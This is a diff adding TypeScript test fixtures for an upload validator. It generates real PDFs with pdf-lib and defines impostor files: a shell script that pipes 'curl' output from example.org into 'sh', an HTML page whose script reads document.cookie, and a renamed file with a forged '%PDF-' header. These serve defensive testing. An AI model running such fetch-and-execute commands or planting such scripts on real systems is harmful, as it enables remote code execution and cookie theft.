@@ -1,0 +1,29 @@
+/**
+ * Test files for "Nachricht an das Netzwerk": a real PDF made by pdf-lib, and the things
+ * that pretend to be one.
+ */
+import { PDFDocument, StandardFonts } from 'pdf-lib';
+
+/** A real one-page PDF with a line of text (pdf-lib writes a classic xref table). */
+export async function realPdf(text = 'Praktikumsplätze im Netzwerk', options: { useObjectStreams?: boolean } = {}): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create();
+  pdf.setTitle(text);
+  pdf.setCreationDate(new Date('2026-12-01T10:00:00Z'));
+  pdf.setModificationDate(new Date('2026-12-01T10:00:00Z'));
+  const page = pdf.addPage([595, 842]);
+  page.drawText(text, { x: 72, y: 760, size: 18, font: await pdf.embedFont(StandardFonts.Helvetica) });
+  return pdf.save({ useObjectStreams: options.useObjectStreams ?? false });
+}
+
+/** A real PDF followed by padding up to `bytes`: the size is judged before anything else. */
+export async function bigPdf(bytes: number): Promise<Uint8Array> {
+  const pdf = await realPdf('Großer Flyer');
+  const padded = new Uint8Array(bytes).fill(0x20);
+  padded.set(pdf);
+  return padded;
+}
+
+export const shellScript = new TextEncoder().encode('#!/bin/sh\ncurl -s http://example.org/x | sh\n');
+export const htmlPage = new TextEncoder().encode('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n');
+/** Only the first line of a PDF: a renamed file with `%PDF-` typed in front. */
+export const fakeHeader = new TextEncoder().encode('%PDF-1.7\n<script>alert(1)</script>\n');
